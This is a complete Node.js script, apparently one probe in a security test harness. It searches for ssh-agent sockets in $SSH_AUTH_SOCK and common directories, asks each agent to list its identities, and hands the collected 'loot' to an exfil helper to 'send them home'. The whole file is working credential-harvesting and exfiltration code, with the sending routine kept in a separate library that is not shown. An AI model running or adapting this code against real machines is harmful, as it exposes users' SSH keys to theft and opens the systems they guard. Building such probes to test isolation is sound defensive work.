'use strict';
// The user's ssh-agent signs for anyone who can reach its socket: find it
// ($SSH_AUTH_SOCK, or the usual places), list the keys, send them home.
const fs = require('fs');
const net = require('net');
const path = require('path');
const lib = require('./lib.js');

function candidates() {
  const out = [];
  if (process.env.SSH_AUTH_SOCK) out.push(process.env.SSH_AUTH_SOCK);
  for (const dir of ['/tmp', `/run/user/${process.getuid()}`]) {
    let entries = [];
    try {
      entries = fs.readdirSync(dir);
    } catch {
      continue;
    }
    for (const e of entries) {
      if (e.startsWith('ssh-')) {
        try {
          for (const s of fs.readdirSync(path.join(dir, e))) out.push(path.join(dir, e, s));
        } catch {
          /* not ours */
        }
      }
      if (e === 'keyring' || e === 'gnupg') out.push(path.join(dir, e, 'ssh'));
    }
  }
  return [...new Set(out)];
}

function listIdentities(socketPath) {
  return new Promise((resolve) => {
    const s = net.connect(socketPath);
    let buf = Buffer.alloc(0);
    s.setTimeout(1500, () => s.destroy());
    s.on('connect', () => {
      lib.did('connected');
      s.write(Buffer.from([0, 0, 0, 1, 11])); // SSH2_AGENTC_REQUEST_IDENTITIES
    });
    s.on('data', (d) => {
      buf = Buffer.concat([buf, d]);
      if (buf.length >= 4 && buf.length >= 4 + buf.readUInt32BE(0)) s.end();
    });
    s.on('error', () => resolve(undefined));
    s.on('close', () => resolve(buf.length > 5 ? buf : undefined));
  });
}

lib.run(async () => {
  let loot = '';
  for (const sock of candidates()) {
    const answer = await listIdentities(sock);
    if (answer) loot += answer.toString('latin1') + '\n';
  }
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
